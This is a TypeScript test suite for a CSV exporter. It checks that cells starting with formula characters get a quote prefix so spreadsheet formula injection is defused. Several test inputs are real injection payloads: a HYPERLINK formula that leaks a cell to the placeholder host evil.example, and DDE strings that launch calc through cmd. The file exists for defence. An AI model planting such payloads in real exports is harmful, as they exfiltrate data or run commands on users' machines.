import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CsvNumber, csvFile, neutraliseCell } from '../csv-file';

const DANGEROUS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/** The cells of a file csvFile wrote, read back as a spreadsheet would split them. */
const cellsOf = (file: string): string[][] => parse(file.slice(1), { relaxColumnCount: true });

describe('CSV formula neutralising', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"點我")', `'=HYPERLINK("http://evil.example/?x="&A1,"點我")`],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ['-2+3', `'-2+3`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `'@SUM(1+1)*cmd|' /C calc'!A0`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['＝1+1', `'＝1+1`],
  ])('prefixes %j with a quote', (text, safe) => {
    expect(neutraliseCell(text)).toBe(safe);
  });

  it('leaves names, dates, codes and quotes that start safely as they are', () => {
    for (const text of ['王小明', '2026-10-01', 'negotiating', "'=already", ' =1', 'a=b', ''])
      expect(neutraliseCell(text)).toBe(text);
  });

  it('never lets any text start with a formula character, and changes only text that did', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.constantFrom(...DANGEROUS).chain((c) => fc.string().map((s) => c + s)),
        ),
        (text) => {
          const safe = neutraliseCell(text);
          expect(DANGEROUS.some((c) => safe.startsWith(c))).toBe(false);
          if (DANGEROUS.some((c) => text.startsWith(c))) expect(safe).toBe(`'${text}`);
          else expect(safe).toBe(text);
        },
      ),
      { numRuns: 2000 },
    );
  });

  it('writes each text cell neutralised and every number as it is, through any quoting', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.string(), fc.integer(), fc.constant(null)), { minLength: 1, maxLength: 8 }),
        (row) => {
          const [read] = cellsOf(csvFile([row]));
          expect(read).toEqual(
            row.map((cell) =>
              cell === null ? '' : typeof cell === 'number' ? String(cell) : neutraliseCell(cell),
            ),
          );
        },
      ),
      { numRuns: 500 },
    );
  });

  it('keeps negative numbers and amounts numbers: unquoted and unprefixed', () => {
    const file = csvFile([['=1+1', -1234, new CsvNumber('-17000.50'), new CsvNumber('0.00'), null]]);
    expect(file).toBe(`\uFEFF'=1+1,-1234,-17000.50,0.00,\n`);
  });

  it('refuses to write text as a number', () => {
    expect(() => new CsvNumber('=1+1')).toThrow();
    expect(() => new CsvNumber('-')).toThrow();
    expect(() => new CsvNumber('1e5')).toThrow();
  });
});
